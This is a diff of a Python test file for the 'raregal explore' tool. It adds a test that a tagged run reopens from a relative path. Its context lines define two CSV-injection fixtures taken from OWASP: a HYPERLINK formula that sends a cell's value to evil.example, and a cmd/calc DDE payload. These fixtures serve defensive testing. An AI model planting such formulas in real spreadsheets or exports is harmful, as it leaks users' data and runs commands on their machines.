@@ -581,6 +581,20 @@ def test_a_tag_file_that_is_not_a_database_is_one_line_at_start(tmp_path):
     assert (run / "explore-tags.sqlite").read_text() == "not a database " * 100
 
 
+def test_a_tagged_run_reopens_from_a_relative_path(tmp_path, monkeypatch):
+    """`raregal explore raregal-demo/run` on a run already tagged: the start-up check of
+    the tag file named it as a file URI, which a relative path cannot be."""
+    from raregal.explore import build
+    from raregal.explore.tags import TagStore
+
+    from .run_folders import small_run
+
+    small_run(tmp_path / "run")
+    TagStore(tmp_path / "run").add("galaxy", "a", "interesting", "")
+    monkeypatch.chdir(tmp_path)
+    build(Path("run"))  # raised ValueError: relative path can't be expressed as a file URI
+
+
 #: Cells a spreadsheet would run (OWASP's CSV injection examples) and an id that is a number.
 FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1, "click")'
 FORMULA_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
